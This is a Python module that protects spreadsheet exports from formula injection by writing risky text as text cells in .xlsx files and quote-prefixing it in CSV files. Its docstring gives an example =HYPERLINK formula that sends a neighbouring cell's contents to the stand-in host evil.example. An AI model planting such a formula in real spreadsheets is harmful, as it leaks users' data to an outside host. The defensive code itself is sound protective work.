"""Text in spreadsheets we write stays text (no formula injection).

A text that starts with = + - @ tab or carriage return is taken as a formula by Excel and
LibreOffice: a measurement note `=HYPERLINK("http://evil.example/?x="&A2,"Klik")` in an
exported workbook would become a live link that sends the neighbouring cell away.

- In an .xlsx every such text is written as a text cell (openpyxl otherwise writes a text
  starting with '=' as a formula); the text itself is unchanged, so importing the workbook
  gives it back as it was. `workbook_bytes` does this for every sheet, so no writer can
  forget it.
- In a CSV there are no cell types: such a text is prefixed with a single quote, as OWASP
  advises (`csv_cell`, `csv_row`). Numbers are left alone (-12.5 stays a number). The
  importer takes the quote off again (`strip_csv_guard`), so a round trip gives the text
  back.

See docs/security.md#exports.
"""

import io
import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")
GUARD = "'"


def is_risky(text):
    """Whether a spreadsheet program could take this text for a formula."""
    return isinstance(text, str) and text.startswith(TRIGGERS) and not _NUMBER.match(text)


def text_only(wb):
    """Make every cell of the workbook that openpyxl would write as a formula a text cell."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":  # a text starting with "="
                    cell.data_type = "s"
    return wb


def workbook_bytes(wb):
    """The workbook as .xlsx bytes, with every text written as text (never as a formula)."""
    text_only(wb)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def csv_cell(value):
    """A value for a CSV cell: a risky text gets a leading single quote."""
    if is_risky(value):
        return GUARD + value
    return value


def csv_row(values):
    return [csv_cell(v) for v in values]


def strip_csv_guard(value):
    """The text as it was before `csv_cell` guarded it."""
    if isinstance(value, str) and value.startswith(GUARD) and is_risky(value[1:]):
        return value[1:]
    return value


class CsvWriter:
    """csv.writer for exports: every risky text guarded (csv_cell). With lines ending in
    '\\n', Python's writer leaves a carriage return inside a text unquoted, which breaks the
    row; a row holding one is written with every field quoted."""

    def __init__(self, out, lineterminator="\n"):
        import csv

        self._plain = csv.writer(out, lineterminator=lineterminator)
        self._quoted = csv.writer(out, lineterminator=lineterminator, quoting=csv.QUOTE_ALL)

    def writerow(self, values):
        values = csv_row(values)
        if any(isinstance(v, str) and "\r" in v for v in values):
            return self._quoted.writerow(values)
        return self._plain.writerow(values)

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
